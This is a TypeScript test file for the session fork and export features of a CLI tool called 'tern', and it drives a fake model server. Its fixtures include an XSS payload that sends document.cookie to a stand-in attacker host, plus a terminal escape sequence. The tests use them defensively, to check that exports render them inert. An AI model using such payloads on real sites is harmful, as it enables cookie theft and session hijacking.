/** Sessions forked and exported through the real CLI: `tern -r … --fork`, `tern sessions export`. */
import { join } from "node:path";
import { assert, assertEquals, assertStringIncludes } from "./support/assert.ts";
import { startFakeModel } from "./support/fake_model_server.ts";
import { runTern } from "./support/cli.ts";
import { tempProject } from "./support/temp_project.ts";
import { testNeeding } from "./support/requires.ts";

const env = (url: string) => ({ TERN_BASE_URL: url, TERN_API_KEY: "k", TERN_MODEL: "fake-model" });
/** What a model (or a page it quotes) may say: an escape that sets a terminal's title. */
const TITLE_ESCAPE = "title \x1b]0;pwned\x07 here";
const HOSTILE =
  '<img src=x onerror="fetch(`https://evil.example/`+document.cookie)"><script>alert(1)</script>';

/** A project with one saved session: reasoning, a read of a hostile file, an edit, an answer. */
async function sessionProject() {
  const project = await tempProject({ "page.html": `${HOSTILE}\n`, "a.txt": "old line\n" });
  const model = startFakeModel([
    {
      reasoning: "I should read the page first.",
      toolCalls: [
        { name: "read_file", arguments: '{"path":"page.html"}' },
        { name: "read_file", arguments: '{"path":"a.txt"}' },
      ],
    },
    {
      toolCalls: [
        { name: "edit_file", arguments: '{"path":"a.txt","old_text":"old line","new_text":"new line"}' },
        { name: "edit_file", arguments: '{"path":"b.txt","old_text":"x","new_text":"y"}' },
      ],
    },
    { text: `Done: a.txt now says **new line**. ${TITLE_ESCAPE}` },
    { text: "The fork goes on." },
  ]);
  const run = await runTern({
    cwd: project.root,
    args: ["-p", "read page.html, then fix a.txt", "--approve", "all", "--output", "json"],
    env: env(model.url),
  });
  assertEquals(run.code, 0, run.stderr);
  return { project, model, id: JSON.parse(run.stdout).session_id as string };
}

async function exported(root: string, url: string, id: string, format: string) {
  return await runTern({ cwd: root, args: ["sessions", "export", id, "--format", format], env: env(url) });
}

Deno.test("tern sessions export renders the conversation, reasoning, calls, results and the diff, offline", async () => {
  const { project, model, id } = await sessionProject();
  await using _p = project;
  await using _m = model;
  const requests = model.requests.length;
  const md = await exported(project.root, model.url, id.slice(0, 15), "md");
  assertEquals(md.code, 0, md.stderr);
  assertStringIncludes(md.stdout, `# Session ${id}`);
  assertStringIncludes(md.stdout, "## You\n\n> read page.html, then fix a.txt");
  assertStringIncludes(
    md.stdout,
    "<details><summary>Reasoning</summary>\n\n```\nI should read the page first.\n```",
  );
  assertStringIncludes(md.stdout, "### Tool call: `edit_file`");
  assertStringIncludes(md.stdout, "Change to `a.txt`:\n\n```diff\n-old line\n+new line\n```");
  assertStringIncludes(md.stdout, "Change asked for (not made) to `b.txt`:");
  assertStringIncludes(md.stdout, "Done: a.txt now says **new line**.");
  assertStringIncludes(md.stdout, HOSTILE); // inside a fence: text, not markup
  assertStringIncludes(md.stdout, "title ␛]0;pwned␇ here"); // no escape acts on a terminal that shows it
  assert(!md.stdout.includes("\x1b"));
  const html = await exported(project.root, model.url, id, "html");
  assertEquals(html.code, 0, html.stderr);
  assertStringIncludes(html.stdout, `content="default-src 'none'; style-src 'unsafe-inline'"`);
  assertStringIncludes(html.stdout, "&lt;script&gt;alert(1)&lt;/script&gt;");
  assert(
    !html.stdout.includes("<script") && !html.stdout.includes("<img"),
    "session text never becomes markup",
  );
  assertStringIncludes(html.stdout, '<span class="del">-old line</span><span class="add">+new line</span>');
  assertStringIncludes(html.stdout, "I should read the page first.");
  const jsonl = await exported(project.root, model.url, id, "jsonl");
  const lines = jsonl.stdout.trimEnd().split("\n").map((line) => JSON.parse(line));
  assertEquals([lines[0].type, lines[0].id], ["session", id]);
  assertEquals(lines[1], { kind: "user", text: "read page.html, then fix a.txt" });
  assertEquals(model.requests.length, requests, "an export sends nothing to the model");
});

Deno.test("tern sessions export says what is wrong with its arguments (exit 2)", async () => {
  await using project = await tempProject({});
  const run = (args: string[]) => runTern({ cwd: project.root, args: ["sessions", "export", ...args] });
  const badFormat = await run(["x", "--format", "pdf"]);
  assertEquals(badFormat.code, 2);
  assertStringIncludes(badFormat.stderr, "--format must be one of md, html, jsonl (got 'pdf')");
  const none = await run(["--format", "md"]);
  assertEquals(none.code, 2);
  assertStringIncludes(none.stderr, "name one session to export");
  const unknown = await run(["nope nope"]);
  assertEquals(unknown.code, 2);
  assertStringIncludes(unknown.stderr, "no session named or numbered 'nope nope'");
});

Deno.test("tern -r ID --fork continues a copy: the original file is left byte for byte as it was", async () => {
  const { project, model, id } = await sessionProject();
  await using _p = project;
  await using _m = model;
  const original = join(project.root, ".tern/local/sessions", `${id}.jsonl`);
  const before = await Deno.readTextFile(original);
  const run = await runTern({
    cwd: project.root,
    args: ["-r", id, "--fork", "-p", "go on", "--output", "json"],
    env: env(model.url),
  });
  assertEquals(run.code, 0, run.stderr);
  const forked = JSON.parse(run.stdout).session_id;
  assert(forked !== id, "the fork has its own id");
  assertStringIncludes(run.stderr, `forked session ${id} into ${forked}; the original is left as it is`);
  assertEquals(await Deno.readTextFile(original), before);
  const sent = model.requests.at(-1)!.messages as { role: string; content: string }[];
  assertEquals(sent.filter((m) => m.role === "user").map((m) => m.content), [
    "read page.html, then fix a.txt",
    "go on",
  ]);
  const list = await runTern({ cwd: project.root, args: ["sessions"] });
  assertEquals(list.stdout.trim().split("\n").length, 2);
});

Deno.test("--fork without a session to copy, or with --no-session, is bad usage (exit 2)", async () => {
  await using project = await tempProject({});
  const alone = await runTern({ cwd: project.root, args: ["--fork", "-p", "x"] });
  assertEquals(alone.code, 2);
  assertStringIncludes(alone.stderr, "--fork copies a saved session: name it with -r ID");
  const unsaved = await runTern({ cwd: project.root, args: ["-c", "--fork", "--no-session", "-p", "x"] });
  assertEquals(unsaved.code, 2);
  assertStringIncludes(unsaved.stderr, "--fork writes a new session, which --no-session forbids");
});

testNeeding(
  ["chromium"],
  "an exported HTML session opens in headless Chromium with no network, its text inert",
  async () => {
    const { project, model, id } = await sessionProject();
    await using _p = project;
    await using _m = model;
    const html = await exported(project.root, model.url, id, "html");
    const file = join(project.root, "session.html");
    await Deno.writeTextFile(file, html.stdout);
    const browser = await new Deno.Command("chromium", {
      args: [
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--no-proxy-server",
        "--dump-dom",
        `file://${file}`,
      ],
      stdout: "piped",
      stderr: "null",
    }).output();
    const dom = new TextDecoder().decode(browser.stdout);
    assertStringIncludes(dom, `<h1>Session ${id}</h1>`);
    assertStringIncludes(dom, "&lt;script&gt;alert(1)&lt;/script&gt;");
    assert(!/<script|<img/.test(dom), "no element came from the session's text");
  },
);
